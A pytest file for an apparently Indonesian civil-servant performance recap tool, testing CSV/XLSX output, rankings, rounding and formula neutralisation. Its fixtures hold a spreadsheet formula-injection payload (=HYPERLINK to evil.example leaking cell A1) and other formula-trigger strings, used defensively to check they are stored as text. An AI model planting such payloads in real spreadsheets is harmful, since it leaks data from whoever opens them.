"""Writers: neutraliser, output shaping, the recap workbook read back with openpyxl."""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
import sys
import textwrap
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, strategies as st

from kinerja_cli.domain import PREDIKAT_PEGAWAI_ORDER
from kinerja_cli.model import (
    EmployeeScore,
    Issue,
    RowScore,
    ScoreResult,
    UnitScore,
    make_issue,
)
from kinerja_cli.sheettext import looks_like_formula
from kinerja_cli.writers import (
    PEGAWAI_FIELDS,
    SHEETS,
    UNIT_FIELDS,
    pembinaan_rows,
    ranking_csv,
    ranking_rows,
    safe_text,
    summary,
    summary_markdown,
    write_ranking_xlsx,
    write_recap,
)
from tests.conftest import needs_soffice, soffice_convert

ROOT = Path(__file__).resolve().parents[1]

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
PREDIKAT = [p.value for p in PREDIKAT_PEGAWAI_ORDER]
RATINGS = ("Di Atas Ekspektasi", "Sesuai Ekspektasi", "Di Bawah Ekspektasi")
MATRIX = {  # (hasil, perilaku) -> predikat, PermenPANRB 6/2022
    (0, 0): "Sangat Baik",
    (0, 1): "Baik",
    (0, 2): "Kurang/Misconduct",
    (1, 0): "Baik",
    (1, 1): "Baik",
    (1, 2): "Kurang/Misconduct",
    (2, 0): "Butuh Perbaikan",
    (2, 1): "Butuh Perbaikan",
    (2, 2): "Sangat Kurang",
}


def _nip(i: int) -> str:
    return f"19860926201505{1 + i % 2}{i % 1000:03d}"


def assign_ranks(employees: list[EmployeeScore]) -> None:
    """Competition ranking (1, 2, 2, 4) by predikat then nilai; test data only."""

    def key(e: EmployeeScore) -> tuple[int, float]:
        return (PREDIKAT.index(e.predikat or ""), -round(e.nilai or 0.0, 9))

    def rank(group: list[EmployeeScore], attr: str) -> None:
        ordered = sorted(group, key=lambda e: (key(e), e.nip))
        prev = None
        for pos, e in enumerate(ordered, start=1):
            k = key(e)
            setattr(e, attr, pos if k != prev else getattr(ordered[pos - 2], attr))
            prev = k

    ranked = [e for e in employees if e.predikat is not None and e.lengkap]
    rank(ranked, "rank_overall")
    for unit in {e.unit for e in ranked}:
        rank([e for e in ranked if e.unit == unit], "rank_unit")


def _baik_over_70() -> Any:
    from kinerja_cli.domain import PredikatOrganisasi, PredikatPegawai
    from kinerja_cli.scoring.unit import KurvaRule, KurvaViolation

    return KurvaViolation(
        rule=KurvaRule((PredikatPegawai.BAIK,), "maks", 70),
        predikat_organisasi=PredikatOrganisasi.ISTIMEWA,
        jumlah=8,
        total=10,
        batas_orang=None,
        pembulatan="ketat",
    )


_BAIK_OVER_70 = _baik_over_70()


def make_result(
    n_units: int = 3,
    per_unit: int = 5,
    *,
    missing_unit: bool = True,
    hostile: bool = True,
    periode: str = "tahunan",
) -> ScoreResult:
    """A deterministic ScoreResult built by hand (no scorer involved)."""
    units: list[UnitScore] = []
    employees: list[EmployeeScore] = []
    issues: list[Issue] = []
    sources = []
    i = 0
    for u in range(n_units):
        kode = f"UNIT{u + 1:02d}"
        emps = []
        for k in range(per_unit):
            hasil, perilaku = (k + u) % 3, (k * 2 + u) % 3
            nilai = 70.0 + ((i * 37) % 60) + 0.005  # x.xx5: rounding half away from zero
            derived = k % 2 == 0
            lengkap = not (u == 0 and k == per_unit - 1)
            nama = f"Pegawai {i:05d}"
            jabatan = "Analis Kebijakan"
            if hostile and u == 0 and k == 0:
                nama, jabatan = HOSTILE, "+62 812 (kontak)"
            if hostile and u == 0 and k == 1:
                nama = "@SUM(1,2)"
            e = EmployeeScore(
                nip=_nip(i),
                nama=nama,
                unit=kode,
                jabatan=jabatan,
                golongan="III/a",
                nilai=nilai if lengkap else None,
                rating_hasil_kerja=RATINGS[hasil] if lengkap else None,
                rating_hasil_kerja_derived=derived,
                rating_perilaku=RATINGS[perilaku],
                predikat=MATRIX[(hasil, perilaku)] if lengkap else None,
                lengkap=lengkap,
                rows=[
                    RowScore(
                        unit=kode,
                        kode="UM-01",
                        nip=_nip(i),
                        target=100.0,
                        realisasi=nilai,
                        capaian=nilai if lengkap else None,
                        bobot=100.0,
                    )
                ],
                catatan=[] if lengkap else ["-baris SKP 12 tidak lengkap"],
            )
            emps.append(e)
            i += 1
        employees += emps
        dist = {p: sum(1 for e in emps if e.predikat == p) for p in PREDIKAT}
        units.append(
            UnitScore(
                kode=kode,
                nama=f"Dinas Nomor {u + 1}",
                pegawai_count=len(emps),
                capaian_iku=88.0 + u * 7.5 + 0.125,
                predikat_organisasi="Baik" if u % 2 else "Istimewa",
                predikat_organisasi_derived=u != 1,
                distribusi=dist,
                kurva_ok=u != 2,
                kurva_pelanggaran=[] if u != 2 else [_BAIK_OVER_70],
                rank=u + 1,
                iku_rows=[
                    RowScore(
                        unit=kode,
                        kode="IKU-UM-01",
                        nip=None,
                        target=95.0,
                        realisasi=90.0,
                        capaian=94.736842,
                    )
                ],
            )
        )
        sources.append(
            {
                "file": f"RENCANA-{kode}-2026.xlsx",
                "unit": kode,
                "sha256": f"{u:064x}",
                "version": 1 + u % 2,
                "ingested_at": datetime(2026, 11, 20, 9, 30, u % 60),
                "fingerprint": "0123456789abcdef",
            }
        )
    if missing_unit:
        units.append(
            UnitScore(
                kode="ZBELUM",
                nama="Dinas Belum Kirim",
                pegawai_count=0,
                capaian_iku=None,
                predikat_organisasi=None,
                predikat_organisasi_derived=False,
                distribusi=dict.fromkeys(PREDIKAT, 0),
                kurva_ok=None,
                submitted=False,
            )
        )
    assign_ranks(employees)
    issues.append(
        make_issue(
            "konfig_tidak_ada",
            "RENCANA-UNIT01-2026.xlsx",
            sheet="SKP",
            cell="H12",
            row=12,
            column="Realisasi TW1",
            nilai=HOSTILE,
            path="x",
        )
    )
    issues.append(
        make_issue(
            "nama_kosong",  # a warning
            "-berkas.xlsx",
            sheet="SKP",
            cell="B3",
            row=3,
            column="Nama",
            nilai="+1+1",
            path="y",
        )
    )
    return ScoreResult(
        instansi="Pemerintah Kota Medan",
        tahun=2026,
        periode=periode,
        metode="permenpan-6-2022",
        units=units,
        employees=employees,
        issues=issues,
        sources=sources,
    )


@pytest.fixture(scope="module")
def result() -> ScoreResult:
    return make_result()


@pytest.fixture(scope="module")
def recap(tmp_path_factory, config, result):
    path = tmp_path_factory.mktemp("rekap") / "REKAP-2026-tahunan.xlsx"
    write_recap(result, config, path, tanggal=date(2026, 11, 25))
    return path


# ---- safe_text --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HOSTILE, "=1+1", "+62 812", "-5", "@SUM(1)", "\t=1", "\r=1", " =1+1", "\uff1d1+1"]
)
def test_formula_like_text_is_neutralised(text):
    assert looks_like_formula(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "Budi Santoso",
        "198609262015051001",
        "",
        "a=b",
        "III/a",
        "Kurang/Misconduct",
        "'sudah dikutip",
    ],
)
def test_plain_text_is_unchanged(text):
    assert not looks_like_formula(text)
    assert safe_text(text) == text


@given(st.text(max_size=40))
def test_safe_text_never_starts_with_a_trigger(text):
    out = safe_text(text)
    assert not looks_like_formula(out)
    assert out == text or out == "'" + text


def test_safe_text_none_and_numbers():
    assert safe_text(None) == ""
    assert safe_text(12.5) == "12.5"


# ---- shaping ----------------------------------------------------------------------------------


def test_ranking_rows_pegawai_shape_order_and_rounding(result):
    rows = ranking_rows(result, "pegawai")
    assert rows and set(PEGAWAI_FIELDS) <= set(rows[0])
    ranks = [r["peringkat"] for r in rows]
    assert ranks == sorted(ranks) and ranks[0] == 1
    assert all(r["predikat"] is not None for r in rows)  # the incomplete one is left out
    assert len(rows) == len(result.employees) - 1
    # x.xx5 rounds away from zero (banker's rounding would give the even digit)
    e = next(e for e in result.employees if e.nip == rows[0]["nip"])
    assert rows[0]["nilai"] == float(f"{e.nilai:.3f}"[:-1]) + 0.01


def test_ranking_rows_ties_share_rank_and_top_keeps_ties():
    res = make_result(n_units=1, per_unit=3, missing_unit=False, hostile=False)
    for e in res.employees:
        e.predikat, e.nilai, e.lengkap = "Baik", 100.0, True
    res.employees[2].nilai = 90.0
    assign_ranks(res.employees)
    rows = ranking_rows(res, "pegawai")
    assert [r["peringkat"] for r in rows] == [1, 1, 3]
    assert [r["nip"] for r in rows[:2]] == sorted(r["nip"] for r in rows[:2])
    assert len(ranking_rows(res, "pegawai", top=1)) == 2
    assert len(ranking_rows(res, "pegawai", top=3)) == 3


def test_ranking_rows_unit_filter_uses_rank_in_unit(result):
    rows = ranking_rows(result, "pegawai", unit="unit02")
    assert rows and {r["unit"] for r in rows} == {"UNIT02"}
    assert [r["peringkat"] for r in rows] == [r["peringkat_unit"] for r in rows]
    assert rows[0]["peringkat"] == 1


def test_ranking_rows_unit_level(result):
    rows = ranking_rows(result, "unit")
    assert [r["unit"] for r in rows] == ["UNIT01", "UNIT02", "UNIT03"]  # ZBELUM not ranked
    assert set(UNIT_FIELDS) <= set(rows[0])
    assert rows[0]["capaian"] == 88.13  # 88.125 -> 88.13
    assert rows[2]["kurva_sesuai"] is False and rows[2]["kurva_pelanggaran"]


def test_ranking_rows_rejects_bad_options(result):
    from kinerja_cli.errors import UsageError

    with pytest.raises(UsageError) as exc:
        ranking_rows(result, "pegawai", unit="NOPE")
    assert exc.value.kode == "cli_unit_tidak_dikenal"
    with pytest.raises(ValueError, match="tingkat"):  # a caller's mistake, not the user's:
        ranking_rows(result, "dinas")  # the CLI parses --tingkat (cli.common.choose)
    with pytest.raises(UsageError):
        ranking_rows(result, "pegawai", top=0)


def test_ranking_csv_is_neutralised(result):
    text = ranking_csv(ranking_rows(result, "pegawai"), "pegawai")
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {r["nama"] for r in rows}
    assert "'" + HOSTILE in names and "'@SUM(1,2)" in names
    assert all(not looks_like_formula(v) for r in rows for v in r.values())
    assert {r["rating_hasil_kerja_dihitung"] for r in rows} <= {"ya", "tidak"}


def test_summary_figures(result):
    data = summary(result)
    o = data["keseluruhan"]
    assert o["unit"] == 4 and o["unit_mengirim"] == 3 and o["unit_belum_mengirim"] == ["ZBELUM"]
    assert o["pegawai"] == 15 and o["pegawai_belum_lengkap"] == 1
    assert sum(o["distribusi"].values()) == o["pegawai_dinilai"] == 14
    assert o["kesalahan"] == 1 and o["peringatan"] == 1
    assert o["unit_tidak_sesuai_kurva"] == ["UNIT03"]
    json.dumps(data)  # plain data
    md = summary_markdown(data)
    assert md.startswith("# REKAPITULASI") and "| UNIT01 |" in md and "ZBELUM" in md


def test_pembinaan_rule(result):
    rows = pembinaan_rows(result)
    cats = [r["kategori"] for r in rows]
    assert cats == sorted(cats, key=lambda c: c != "Penghargaan")
    for r in rows:
        if r["kategori"] == "Penghargaan":
            assert r["predikat"] == "Sangat Baik"
        else:
            assert r["predikat"] in ("Butuh Perbaikan", "Kurang/Misconduct", "Sangat Kurang")
            assert "pembinaan" in r["alasan"]
    expected = sum(
        1
        for e in result.employees
        if e.lengkap
        and e.predikat in ("Sangat Baik", "Butuh Perbaikan", "Kurang/Misconduct", "Sangat Kurang")
    )
    assert len(rows) == expected
    derived = next(r for r in rows if "dihitung dari nilai" in r["alasan"])
    assert derived["nip"]


# ---- recap workbook ---------------------------------------------------------------------------


def _header(ws, row=4):
    return [c.value for c in ws[row] if c.value is not None]


def test_recap_has_every_sheet_with_headers(recap):
    import openpyxl

    wb = openpyxl.load_workbook(recap)
    assert wb.sheetnames == list(SHEETS)
    assert _header(wb["Pegawai"])[:4] == ["Peringkat", "Peringkat di Unit", "NIP", "Nama"]
    assert "Capaian IKU (%)" in _header(wb["Unit"])
    assert "Rata-rata Nilai" in _header(wb["Unit"])
    assert _header(wb["Masalah"]) == [
        "Berkas",
        "Lembar",
        "Sel",
        "Baris",
        "Kolom",
        "Kode",
        "Tingkat",
        "Pesan",
        "Nilai di Berkas",
    ]
    assert _header(wb["Sumber"])[:3] == ["Berkas", "Kode Unit", "SHA-256"]
    assert "Capaian Rata-rata (%)" in _header(wb["Indikator"])
    assert _header(wb["Pembinaan"])[:2] == ["Kategori", "Predikat"]
    ring = wb["Ringkasan"]
    labels = {ring.cell(r, 1).value: ring.cell(r, 2).value for r in range(1, 60)}
    assert labels["Instansi"] == "Pemerintah Kota Medan"
    assert labels["Periode"] == "Tahunan (TW1-TW4)"
    assert labels["Unit belum mengirim"] == 1
    texts = [c.value for row in ring.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("Medan, 25 November 2026") for t in texts)
    assert "NIP. 19700315 200003 1 002" in texts


def test_recap_formats_frozen_filters_and_colours(recap):
    import openpyxl

    wb = openpyxl.load_workbook(recap)
    for name in SHEETS[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A5", name
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A4"), name
        assert ws.print_title_rows == "$4:$4", name
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.paperSize == 9
        assert ws.sheet_properties.pageSetUpPr.fitToPage
    peg = wb["Pegawai"]
    heads = _header(peg)
    col = heads.index("Nilai") + 1
    assert peg.cell(5, col).number_format == "0.00"
    assert isinstance(peg.cell(5, col).value, float)
    rules = [r for rng in peg.conditional_formatting for r in rng.rules]
    assert any('"Sangat Baik"' in (r.formula or [""])[0] for r in rules)
    assert any('"Sangat Kurang"' in (r.formula or [""])[0] for r in rules)
    unit_rules = [r for rng in wb["Unit"].conditional_formatting for r in rng.rules]
    assert any('"Istimewa"' in (r.formula or [""])[0] for r in unit_rules)


def test_recap_text_cells_are_strings_not_formulas(recap, result):
    import openpyxl

    wb = openpyxl.load_workbook(recap)
    peg = wb["Pegawai"]
    heads = _header(peg)
    nip_col, nama_col = heads.index("NIP") + 1, heads.index("Nama") + 1
    hostile = [c for row in peg.iter_rows(min_row=5) for c in row if c.value == HOSTILE]
    assert hostile and all(c.data_type == "s" for c in hostile)
    assert all(c.quotePrefix for c in hostile)
    for name in wb.sheetnames:
        for row in wb[name].iter_rows():
            for c in row:
                assert c.data_type != "f", (name, c.coordinate, c.value)
    nips = [peg.cell(r, nip_col).value for r in range(5, 5 + len(result.employees))]
    assert all(isinstance(n, str) and len(n) == 18 for n in nips)
    assert peg.cell(5, nip_col).number_format == "@"
    assert peg.cell(5, nama_col).data_type == "s"
    mas = wb["Masalah"]
    assert any(c.value == HOSTILE and c.data_type == "s" for row in mas.iter_rows() for c in row)


def test_recap_values_match_the_result(recap, result):
    import openpyxl

    wb = openpyxl.load_workbook(recap)
    peg = wb["Pegawai"]
    heads = _header(peg)
    idx = {h: i for i, h in enumerate(heads)}
    rows = [[c.value for c in r] for r in peg.iter_rows(min_row=5, max_row=4 + 15)]
    by_nip = {r[idx["NIP"]]: r for r in rows}
    for e in result.employees:
        r = by_nip[e.nip]
        assert r[idx["Predikat"]] == e.predikat
        assert r[idx["Peringkat"]] == e.rank_overall
        assert r[idx["Data Lengkap"]] == ("Ya" if e.lengkap else "Tidak")
        if e.nilai is not None:
            from kinerja_cli.rounding import round_half_up

            assert r[idx["Nilai"]] == round_half_up(e.nilai)
    incomplete = next(r for r in rows if r[idx["Data Lengkap"]] == "Tidak")
    assert incomplete[idx["Catatan"]] == "-baris SKP 12 tidak lengkap."
    unit = wb["Unit"]
    uheads = _header(unit)
    assert unit.cell(5, uheads.index("Capaian IKU (%)") + 1).value == 88.13
    assert unit.cell(8, uheads.index("Sudah Mengirim") + 1).value == "Tidak"
    src = wb["Sumber"]
    assert src.cell(5, 3).value == "0" * 64 and src.cell(5, 4).value == 1
    assert src.cell(5, 5).value == "2026-11-20 09:30:00"


def test_recap_has_native_charts(recap):
    import zipfile

    with zipfile.ZipFile(recap) as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 2
        xml = "".join(z.read(n).decode() for n in charts)
    assert "<c:barChart>" in xml and "Unit!$B$5:$B$8" in xml and "Unit!$H$5:$H$8" in xml
    assert "Ringkasan!$A$" in xml


def test_recap_in_english_keeps_sheet_names(tmp_path, config, result):
    import openpyxl

    path = write_recap(
        result, config, tmp_path / "r.xlsx", tanggal=date(2026, 1, 2), lang="en", kertas="F4"
    )
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == list(SHEETS)
    assert "Name" in _header(wb["Pegawai"])
    assert wb["Pegawai"].page_setup.paperSize == 14


def test_recap_rejects_unknown_paper(tmp_path, config, result):
    from kinerja_cli.errors import UsageError

    with pytest.raises(UsageError):
        write_recap(result, config, tmp_path / "r.xlsx", kertas="A3")
    assert not list(tmp_path.iterdir())


def test_recap_of_empty_result(tmp_path, config):
    import openpyxl

    empty = ScoreResult(
        instansi="X",
        tahun=2026,
        periode="TW2",
        metode="permenpan-6-2022",
        units=[],
        employees=[],
        issues=[],
    )
    wb = openpyxl.load_workbook(write_recap(empty, config, tmp_path / "e.xlsx"))
    # a TW1-TW3 recap carries the in-year monitoring after Pembinaan (issue 12)
    at = SHEETS.index("Pembinaan") + 1
    assert wb.sheetnames == [*SHEETS[:at], "Pemantauan", *SHEETS[at:]]
    assert wb["Ringkasan"]["B7"].value == "Sampai Triwulan 2 (TW1-TW2)"


def test_ranking_xlsx(tmp_path, config, result):
    import openpyxl

    rows = ranking_rows(result, "pegawai", top=3)
    path = write_ranking_xlsx(
        rows, "pegawai", result, config, tmp_path / "p.xlsx", tanggal=date(2026, 11, 25)
    )
    ws = openpyxl.load_workbook(path)["Peringkat"]
    heads = _header(ws)
    assert heads[:4] == ["Peringkat", "Peringkat di Unit", "Peringkat Keseluruhan", "NIP"]
    got = [ws.cell(5 + i, 4).value for i in range(len(rows))]
    assert got == [r["nip"] for r in rows]
    assert ws.freeze_panes == "A5" and ws.auto_filter.ref
    unit_path = write_ranking_xlsx(
        ranking_rows(result, "unit"), "unit", result, config, tmp_path / "u.xlsx"
    )
    uws = openpyxl.load_workbook(unit_path)["Peringkat"]
    assert uws.cell(5, 2).value == "UNIT01" and uws.cell(5, 4).value == 88.13


# ---- atomicity --------------------------------------------------------------------------------


def test_killed_writer_leaves_previous_recap_intact(tmp_path, config, recap):
    """SIGKILL in the middle of writing (after some sheets): the old file stays as it was."""
    target = tmp_path / "REKAP-2026-tahunan.xlsx"
    target.write_bytes(recap.read_bytes())
    before = target.read_bytes()
    script = textwrap.dedent(f"""
        import os, signal, sys
        sys.path.insert(0, {str(ROOT)!r})
        from tests.test_writers import make_result
        from kinerja_cli.config import load_config
        import kinerja_cli.writers.recap as recap
        def die(*a, **k):
            os.kill(os.getpid(), signal.SIGKILL)
        recap._masalah = die
        recap.write_recap(make_result(n_units=10, per_unit=100),
                          load_config({str(ROOT / "config" / "indikator.yaml")!r}),
                          {str(target)!r})
    """)
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, timeout=120)
    assert proc.returncode == -signal.SIGKILL, proc.stderr.decode()
    assert target.read_bytes() == before
    import openpyxl

    assert openpyxl.load_workbook(target).sheetnames == list(SHEETS)


def test_failed_write_removes_temp_and_keeps_old(tmp_path, config, result, monkeypatch):
    import kinerja_cli.writers.recap as recap_mod

    target = tmp_path / "R.xlsx"
    target.write_bytes(b"old")

    def boom(*a, **k):
        raise RuntimeError("boom")

    monkeypatch.setattr(recap_mod, "_sumber", boom)
    with pytest.raises(RuntimeError):
        write_recap(result, config, target)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["R.xlsx"]


# ---- LibreOffice ------------------------------------------------------------------------------


@needs_soffice
def test_libreoffice_evaluates_nothing_from_our_csv(tmp_path, result):
    """A CSV we wrote, opened by LibreOffice: the =HYPERLINK name stays text."""
    import openpyxl

    src = tmp_path / "peringkat.csv"
    src.write_text(ranking_csv(ranking_rows(result, "pegawai"), "pegawai"), encoding="utf-8")
    ws = openpyxl.load_workbook(soffice_convert(src, "xlsx", tmp_path / "out")).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + HOSTILE for c in cells)


@needs_soffice
def test_libreoffice_converts_recap_to_pdf(tmp_path, recap):
    pdf = soffice_convert(recap, "pdf", tmp_path / "pdf")
    assert pdf.read_bytes()[:5] == b"%PDF-"
    assert pdf.stat().st_size > 10_000


def test_catatan_kodes_are_rendered_once_each():
    from kinerja_cli.messages import CATALOGUE
    from kinerja_cli.writers.shape import catatan_text

    kode = next(iter(CATALOGUE))
    e = make_result(n_units=1, per_unit=1, missing_unit=False, hostile=False).employees[0]
    e.catatan = [kode, kode, "teks bebas"]
    text = catatan_text(e, "en")
    assert text is not None and text.endswith("teks bebas.")
    assert text.count(CATALOGUE[kode]["en"].rstrip(".")[:20]) == 1


def test_footer_chart_titles_and_rule_words_follow_the_output_language(tmp_path, config, result):
    """Issue 15: the result holds no words; the recap says everything in its ``lang``,
    page footers and chart titles included."""
    import zipfile

    import openpyxl

    from kinerja_cli.messages import render

    texts = {}
    for lang in ("id", "en"):
        path = write_recap(
            result, config, tmp_path / f"{lang}.xlsx", tanggal=date(2026, 12, 1), lang=lang
        )
        with zipfile.ZipFile(path) as z:
            sheets = [
                z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
            ]
            charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
        texts[lang] = (sheets, charts)
        page = render("keluaran_kaki_halaman", lang).replace("&", "&amp;")
        assert sheets and all(page in s for s in sheets)
        assert charts and any(render("keluaran_bagian_distribusi", lang) in c for c in charts)
        unit_sheet = openpyxl.load_workbook(path, read_only=True)["Unit"]  # sheet names stay
        words = " ".join(str(v) for row in unit_sheet.iter_rows(values_only=True) for v in row if v)
        assert _BAIK_OVER_70.describe(lang) in words
    assert "Page &amp;P / &amp;N" in texts["en"][0][0] and "Halaman" not in texts["en"][0][0]
